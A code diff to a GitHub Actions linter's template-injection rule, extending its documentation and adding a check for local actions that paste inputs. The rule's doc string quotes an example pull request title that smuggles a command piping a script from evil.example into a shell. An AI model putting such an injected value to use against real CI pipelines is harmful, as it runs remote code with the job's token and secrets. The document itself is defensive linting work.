@@ -18,13 +18,14 @@ var TemplateInjection = &lint.Rule{
 	Title: "Expression pasted into code",
 	Doc: doc("The runner puts an expression's value into the script before any shell or interpreter reads it. A pull request titled `\"; curl evil.example | sh; \"` then runs as part of the script, with the job's token and secrets.",
 		"- run: echo \"${{ github.event.pull_request.title }}\"", "- run: echo \"$TITLE\"\n  env:\n    TITLE: ${{ github.event.pull_request.title }}",
-		"Pass the value through the step's env: a variable is data. Text that strangers choose is reported to everybody; inputs, outputs of other steps and branch names, which people with write access choose, to the pedantic audience and the auditor. Numbers, hashes, comparisons and the results of jobs are harmless and are left alone."),
+		"Pass the value through the step's env: a variable is data. Text that strangers choose is reported to everybody; inputs, outputs of other steps and branch names, which people with write access choose, to the pedantic audience and the auditor. A local action or workflow that pastes an input is told where a stranger's text is handed to it. Numbers, hashes, comparisons and the results of jobs are harmless and are left alone."),
 	Theme: lint.Insecure, Severity: lint.High, Confidence: lint.HighConfidence, Audience: lint.Regular,
 	Kinds: workflowsAndActions, Aliases: []string{"zizmor:template-injection"}, Fixable: true,
 	File: templateInjection,
 }
 
 func templateInjection(p *lint.Pass) error {
+	pastedInputs(p)
 	return eachStep(p, func(w *workflow.Workflow, j *workflow.Job, s *workflow.Step) {
 		pastes(p, w, j, s, s.Run, "the script")
 		key := s.Action().Key()
